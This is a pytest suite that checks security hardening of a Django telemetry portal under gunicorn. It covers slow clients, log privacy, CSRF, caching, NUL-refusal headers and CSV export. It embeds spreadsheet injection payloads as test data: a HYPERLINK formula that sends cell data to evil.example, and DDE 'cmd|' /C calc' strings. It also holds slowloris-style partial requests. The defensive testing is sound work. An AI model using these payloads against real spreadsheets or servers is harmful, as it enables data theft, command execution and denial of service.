"""Hardening findings, each held by a test that failed before its fix.

1. Slow clients must not starve everybody else (the real gunicorn, with the shipped gunicorn.conf.py).
2. gunicorn's own error log holds no request line and no full client address (the real gunicorn).
3. Every answer under /api/ and /portal/api/ is application/problem+json, a CSRF refusal included.
4. The dashboard, its CSV export and the counts API are never cached.
5. The refusal of a NUL in the address carries the security headers of every other answer.
6. The CSV export cannot carry a formula, whatever separator a spreadsheet splits on.
"""

import contextlib
import csv
import http.client
import io
import logging
import os
import socket
import subprocess
import sys
import time
from datetime import timedelta
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from telemetry.models import ErrorCodeDailyCount, FederationPartnerDailyCount
from tests.telemetry.client_api import assert_problem

ROOT = Path(__file__).resolve().parent.parent
LOOPBACK = "127.0.0.1"
# The answer admin pages send (django.views.decorators.cache.never_cache).
NEVER_CACHE = "max-age=0, no-cache, no-store, must-revalidate, private"


# --- 3. problem+json everywhere under the API prefixes ------------------------------------------------


@pytest.fixture
def csrf_client(hamlet):
    """A browser's session: signed in, and CSRF checks on (the test client skips them by default)."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(hamlet)
    return client


@pytest.mark.parametrize("url", ["/api/v1/nothing", "/portal/api/counts", "/portal/api/counts?tenant=contoso"])
def test_a_csrf_refusal_under_the_api_is_a_problem(csrf_client, url):
    response = csrf_client.post(url, {"x": "1"})

    assert_problem(response, 403)


def test_a_csrf_refusal_of_a_page_stays_djangos_page(csrf_client):
    response = csrf_client.post(reverse("admin:logout"))

    assert response.status_code == 403
    assert response["Content-Type"].startswith("text/html")


# --- 4. never cached ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    ["/portal/dashboard/?tenant=contoso", "/portal/dashboard/export.csv?tenant=contoso", "/portal/api/counts"],
)
def test_the_dashboard_its_export_and_the_counts_are_never_cached(client, hamlet, url):
    client.force_login(hamlet)
    admin_page = client.get(reverse("admin:index"))

    response = client.get(url)

    assert response.status_code == 200
    assert admin_page["Cache-Control"] == NEVER_CACHE
    assert response["Cache-Control"] == NEVER_CACHE
    assert "Expires" in response


# --- 5. the NUL refusal's headers --------------------------------------------------------------------

# What a refusal may lack or hold differently from a normal answer: its own body's description, and
# what a view adds for itself (the admin's never_cache, the session's Vary).
OWN_HEADERS = {"content-type", "content-length", "cache-control", "expires", "vary", "set-cookie"}


def _header_set(response) -> dict[str, str]:
    return {name.lower(): value for name, value in response.headers.items() if name.lower() not in OWN_HEADERS}


@pytest.mark.parametrize(
    ("normal_url", "refused_url"),
    [
        ("/admin/", "/admin/?q=%00"),
        ("/portal/dashboard/?tenant=contoso", "/portal/dashboard/?tenant=%00"),
        ("/api/v1/openapi.json", "/api/v1/openapi.json?x=%00"),
        ("/api/v1/nothing", "/api/v1/nothing%00"),
    ],
)
def test_the_nul_refusal_carries_the_security_headers_of_any_other_answer(client, hamlet, normal_url, refused_url):
    client.force_login(hamlet)
    normal = client.get(normal_url)
    refused = client.get(refused_url)

    assert refused.status_code == 400
    assert b"NUL" in refused.content
    # The comparison means something: a normal answer carries the whole set.
    assert {"content-security-policy", "x-frame-options", "x-content-type-options", "referrer-policy"} <= set(
        _header_set(normal)
    )
    assert _header_set(refused) == _header_set(normal)


# --- 6. the CSV export and spreadsheet formulas ------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@")
HOSTILE_PARTNER = 'partner.example;=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_CODES = ["SIGNIN,=1+2", "SIGNIN\t=cmd|' /C calc'!A0", "SIGNIN; @SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def hostile_counts(contoso):
    day = timezone.now().date() - timedelta(days=1)
    FederationPartnerDailyCount.objects.create(tenant=contoso, day=day, partner=HOSTILE_PARTNER, records=3)
    for code in HOSTILE_CODES:
        ErrorCodeDailyCount.objects.create(tenant=contoso, day=day, error_code=code, records=2)


def test_the_csv_export_is_formula_free_whatever_the_separator(client, hamlet, hostile_counts):
    client.force_login(hamlet)

    response = client.get(reverse("dashboard_export"), {"tenant": "contoso"})

    assert response.status_code == 200
    body = response.content.decode()
    # Every cell quoted, so that a separator inside a value stays inside it.
    lines = [line for line in body.split("\r\n") if line]
    assert lines
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    # The values are there (this test could fail)...
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any(cell.startswith("partner.example;") for cell in cells)
    assert sum(cell.startswith("SIGNIN") for cell in cells) == len(HOSTILE_CODES)
    # ... and no spreadsheet splitting on any of , ; tab sees a cell that starts a formula, even one
    # that ignores quotes.
    for separator in (",", ";", "\t"):
        for line in lines:
            for piece in line.split(separator):
                cell = piece.strip().strip('"').strip()
                assert not cell.startswith(FORMULA_STARTS), (separator, line)


# --- 1. slow clients, and 2. what gunicorn logs: the real server -------------------------------------

WORKERS = 2


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind((LOOPBACK, 0))
        return probe.getsockname()[1]


def _get(port: int, path: str, *, timeout: float) -> int:
    connection = http.client.HTTPConnection(LOOPBACK, port, timeout=timeout)
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        response.read()
        return response.status
    finally:
        connection.close()


@contextlib.contextmanager
def gunicorn(directory: Path, *arguments: str, debug: bool = False):
    """`gunicorn portal.wsgi` as an operator starts it in the project root, so with the shipped
    gunicorn.conf.py, on a free loopback port; yields the port and the file of all it printed.
    `debug` serves the admin's static files without collectstatic."""
    port = _free_port()
    environment = {
        name: value
        for name, value in os.environ.items()
        if not name.startswith(("DJANGO_", "TELEMETRY_", "CACHE_", "GUNICORN_", "WEB_CONCURRENCY", "LOG_LEVEL"))
    }
    environment.update(
        DATABASE_URL=f"sqlite:///{directory / 'db.sqlite3'}",
        DJANGO_SECRET_KEY="hardening-test-secret-key",
        TELEMETRY_HASH_KEY="hardening-test-hash-key",
        DJANGO_SECURE_SSL="false",
        GUNICORN_BIND=f"{LOOPBACK}:{port}",
        WEB_CONCURRENCY=str(WORKERS),
        PYTHONUNBUFFERED="1",
        DJANGO_DEBUG=str(debug).lower(),
    )
    log = directory / "gunicorn.log"
    with log.open("w") as output:
        server = subprocess.Popen(
            [sys.executable, "-m", "gunicorn", *arguments, "portal.wsgi"],
            cwd=ROOT,
            env=environment,
            stdout=output,
            stderr=subprocess.STDOUT,
        )
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                if _get(port, "/api/v1/openapi.json", timeout=5) == 200:
                    break
            except OSError:
                pass
            if time.monotonic() > deadline or server.poll() is not None:
                pytest.fail(f"gunicorn did not start:\n{log.read_text()}")
            time.sleep(0.2)
        yield port, log
    finally:
        server.terminate()
        try:
            server.wait(timeout=30)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait(timeout=30)


SLOW_REQUESTS = [
    # The headers and a few bytes of a form, which the CSRF check reads before any view runs.
    b"POST /admin/login/ HTTP/1.1\r\nHost: localhost\r\nCookie: csrftoken=" + b"a" * 32 + b"\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\nusername=a",
    # The headers and the first bytes of a batch.
    b"POST /api/v1/telemetry HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer tpk_x\r\n"
    b'Content-Type: application/json\r\nContent-Length: 500000\r\n\r\n{"records": [',
    # Half the headers.
    b"GET /api/v1/openapi.json HTTP/1.1\r\nHost: localhost\r\nAccept: appl",
]


def test_slow_clients_do_not_keep_everybody_else_waiting(tmp_path):
    with gunicorn(tmp_path) as (port, log):
        slow = []
        try:
            # Three times as many clients as workers send the start of a request, then nothing.
            for number in range(3 * WORKERS):
                connection = socket.create_connection((LOOPBACK, port), timeout=5)
                slow.append(connection)
                connection.sendall(SLOW_REQUESTS[number % len(SLOW_REQUESTS)])
            time.sleep(0.5)  # long enough for a worker to take each of them

            started = time.monotonic()
            try:
                status = _get(port, "/api/v1/openapi.json", timeout=5)
            except TimeoutError:
                status = None
            elapsed = time.monotonic() - started
        finally:
            for connection in slow:
                connection.close()
    assert status == 200, log.read_text()
    assert elapsed < 5


MALFORMED_REQUESTS = [
    b"PUT /api/v1/users/amos marble/error-reporting HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"PUT /api/v1/users/amosmarble/error-reporting HTTP/1.x\r\nHost: localhost\r\n\r\n",
    b"PUT /api/v1/users/amosmarble/error-reporting HTTP/9.9\r\nHost: localhost\r\n\r\n",
    b"GET /api/v1/policy?user=amosmarble HTTP/1.1 trailing\r\nHost: localhost\r\n\r\n",
    b"P@T /api/v1/users/amosmarble/error-reporting HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET /api/v1/users/amosmarble\x00/x HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX-User amosmarble: 1\r\n\r\n",
    b"GET /api/v1/users/amosmarble/" + b"a" * 9000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    # Well-formed, naming a user in the path and in the query.
    b"PUT /api/v1/users/amosmarble/error-reporting HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\n\r\n{}",
    b"GET /api/v1/policy?user=amosmarble HTTP/1.1\r\nHost: localhost\r\n\r\n",
]


@pytest.mark.parametrize(
    "arguments",
    [(), ("--log-level", "debug"), ("--worker-class", "sync")],
    ids=["as-shipped", "debug-log", "sync-worker"],
)
def test_the_server_log_names_no_client(tmp_path, arguments):
    with gunicorn(tmp_path, *arguments) as (port, log):
        answers = []
        for request in MALFORMED_REQUESTS:
            with socket.create_connection((LOOPBACK, port), timeout=10) as connection:
                connection.sendall(request)
                answers.append(connection.recv(64).split(b"\r\n")[0])
    printed = log.read_text()
    # The server's own listen address is its own, not a client's: that line names it as it is.
    listening = [line for line in printed.splitlines() if "Listening at: " in line]
    assert listening, printed
    assert f"http://{LOOPBACK}:{port}" in listening[0], printed
    printed = "\n".join(line for line in printed.splitlines() if "Listening at: " not in line)

    assert all(answer.startswith(b"HTTP/1.1 4") for answer in answers), answers
    assert "amosmarble" not in printed.casefold(), printed
    assert LOOPBACK not in printed, printed
    # The log does speak of the client's address: as its network.
    assert "127.0.0.0/24" in printed, printed
    if "sync" in arguments:
        # gunicorn's own parser: these lines named the address and quoted the request line.
        assert printed.count("Invalid request from ip=127.0.0.0/24: Invalid HTTP") >= 3, printed


@pytest.fixture(scope="module")
def migrated(tmp_path_factory):
    """A migrated throw-away database with a tenant, its pool and key, and a tenant admin."""
    directory = tmp_path_factory.mktemp("served")
    environment = {
        name: value for name, value in os.environ.items() if not name.startswith(("DJANGO_", "TELEMETRY_", "CACHE_"))
    }
    environment.update(
        DATABASE_URL=f"sqlite:///{directory / 'db.sqlite3'}",
        DJANGO_SECRET_KEY="hardening-test-secret-key",
        TELEMETRY_HASH_KEY="hardening-test-hash-key",
        DJANGO_SECURE_SSL="false",
        PORTAL_PASSWORD="hardening-password-7731",
    )

    def manage(*arguments: str) -> str:
        command = [sys.executable, "manage.py", *arguments]
        run = subprocess.run(
            command, cwd=ROOT, env=environment, capture_output=True, text=True, timeout=120, check=False
        )
        assert run.returncode == 0, run.stderr
        return run.stdout

    manage("migrate", "--noinput", "-v", "0")
    key = manage("create_tenant", "contoso", "--name", "Contoso", "--domain", "contoso.com").strip().splitlines()[-1]
    manage("create_pool", "contoso", "pool01.contoso.com")
    manage("create_portal_user", "hamlet", "--role", "tenant_admin", "--tenant", "contoso")
    return directory, key


def _exchange(port: int, request: bytes) -> bytes:
    """Everything the server answers to `request` on one connection, until it closes it."""
    answer = b""
    with socket.create_connection((LOOPBACK, port), timeout=10) as connection:
        connection.sendall(request)
        while chunk := connection.recv(65536):
            answer += chunk
    return answer


def test_the_worker_serves_the_portal_as_the_sync_worker_did(migrated):
    directory, key = migrated
    batch = (
        b'{"records": [{"id": "0f6f7c1e-0b5e-4d7c-a3a9-2f2a9e4c7b10", "category": "usage", "client": "desktop",'
        b' "timestamp": "2026-11-20T09:15:00Z", "pool": "pool01.contoso.com", "ims_sent": 12, "ims_received": 5,'
        b' "meeting_join_attempts": 5, "meeting_join_successes": 4, "call_minutes": 30}]}'
    )
    bearer = f"Authorization: Bearer {key}\r\nContent-Type: application/json\r\n".encode()
    with gunicorn(directory, debug=True) as (port, log):
        # A batch, a body's worth of bytes read whole before the application ran.
        stored = _exchange(
            port,
            b"POST /api/v1/telemetry HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
            + bearer
            + f"Content-Length: {len(batch)}\r\n\r\n".encode()
            + batch,
        )
        # A body declared too large is refused by the application, unread: no byte of it was sent.
        too_large = _exchange(
            port,
            b"POST /api/v1/telemetry HTTP/1.1\r\nHost: localhost\r\n" + bearer + b"Content-Length: 50000000\r\n\r\n",
        )
        # The admin's sign-in form: cookies, the CSRF token, a redirect.
        page = _exchange(port, b"GET /admin/login/ HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        cookie = page.split(b"csrftoken=", 1)[1].split(b";", 1)[0]
        token = page.split(b'name="csrfmiddlewaretoken" value="', 1)[1].split(b'"', 1)[0]
        form = b"csrfmiddlewaretoken=" + token + b"&username=hamlet&password=hardening-password-7731&next=/admin/"
        signed_in = _exchange(
            port,
            b"POST /admin/login/ HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nCookie: csrftoken="
            + cookie
            + b"\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            + f"Content-Length: {len(form)}\r\n\r\n".encode()
            + form,
        )
        # HEAD: GET's headers, no body; a pipelined request is answered after the first one.
        head = _exchange(
            port,
            b"HEAD /api/v1/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n"
            b"GET /api/v1/nothing HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
        )

    assert stored.startswith(b"HTTP/1.1 200 "), stored
    assert b'"accepted":1' in stored
    assert too_large.startswith(b"HTTP/1.1 413 "), too_large
    assert b"application/problem+json" in too_large
    assert signed_in.startswith(b"HTTP/1.1 302 "), signed_in
    assert b"Location: /admin/" in signed_in
    assert b"sessionid=" in signed_in
    first, _, rest = head.partition(b"\r\n\r\n")
    assert first.startswith(b"HTTP/1.1 200 ")
    assert b"Content-Length: " in first
    assert rest.startswith(b"HTTP/1.1 404 "), head
    assert "Traceback" not in log.read_text()


# --- 3, 4, 5 and 6: more of the same -----------------------------------------------------------------


def test_a_csrf_refusal_under_the_api_without_a_session_is_a_problem_too(db):
    assert_problem(Client(enforce_csrf_checks=True).post("/api/v1/nothing"), 403)


def test_a_csrf_refusal_under_the_api_logs_no_path(csrf_client, caplog):
    # An unmatched path may hold a user ID: as for a Not Found there, nothing is logged.
    with caplog.at_level(logging.DEBUG):
        response = csrf_client.post("/api/v1/users/amosmarble/nothing")

    body = assert_problem(response, 403)
    assert body["type"] == "urn:telemetry-portal:problem:csrf-failed"
    assert "amosmarble" not in caplog.text


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("/portal/api/counts?tenant=fabrikam", 404),
        ("/portal/api/counts?tenant=contoso&from=yesterday", 400),
    ],
)
def test_the_counts_refusals_are_never_cached_either(client, hamlet, fabrikam, url, status):
    client.force_login(hamlet)

    response = client.get(url)

    assert_problem(response, status)
    assert response["Cache-Control"] == NEVER_CACHE


def test_the_counts_refusal_without_a_session_is_never_cached(client, db):
    response = client.get("/portal/api/counts?tenant=contoso")

    assert_problem(response, 401)
    assert response["Cache-Control"] == NEVER_CACHE


NORMAL_URLS = [
    "/admin/",
    "/no-such-page/",
    "/portal/dashboard/?tenant=contoso",
    "/api/v1/nothing",
    "/api/v1/policy",
    "/portal/api/counts?tenant=contoso",
]


@pytest.mark.parametrize(
    "refused_url",
    ["/no-such-page/?q=%00", "/api/v1/users/amos%00marble/error-reporting", "/portal/api/counts?tenant=%00"],
)
def test_the_nul_refusal_has_every_header_all_other_answers_share(client, hamlet, contoso, refused_url):
    client.force_login(hamlet)
    answers = [dict(client.get(url).headers) for url in NORMAL_URLS]
    shared = {name: value for name, value in answers[0].items() if all(a.get(name) == value for a in answers)}

    refused = client.get(refused_url)

    assert refused.status_code == 400
    assert {"Content-Security-Policy", "X-Frame-Options", "X-Content-Type-Options", "Referrer-Policy"} <= set(shared)
    assert {name: refused.headers.get(name) for name in shared} == shared


def test_the_csv_export_keeps_the_values_readable_and_quotes_every_cell(client, hamlet, contoso):
    day = timezone.now().date() - timedelta(days=1)
    for code in ['x;=HYPERLINK("http://evil.example/")', "y,=1+2", "z\t=SUM(A1:A9)", "w\r\n-2+3"]:
        ErrorCodeDailyCount.objects.create(tenant=contoso, day=day, error_code=code, records=2)
    client.force_login(hamlet)

    body = client.get(reverse("dashboard_export"), {"tenant": "contoso"}).content.decode()

    rows = list(csv.reader(io.StringIO(body)))
    # Exactly what csv.QUOTE_ALL writes of these rows: every cell quoted, the empty ones too.
    requoted = io.StringIO()
    csv.writer(requoted, quoting=csv.QUOTE_ALL).writerows(rows)
    assert body == requoted.getvalue()
    # Each formula start is behind an apostrophe, the rest of the value as it was.
    cells = {cell for row in rows for cell in row}
    assert {'x;\'=HYPERLINK("http://evil.example/")', "y,'=1+2", "z\t'=SUM(A1:A9)", "w\r\n'-2+3"} <= cells
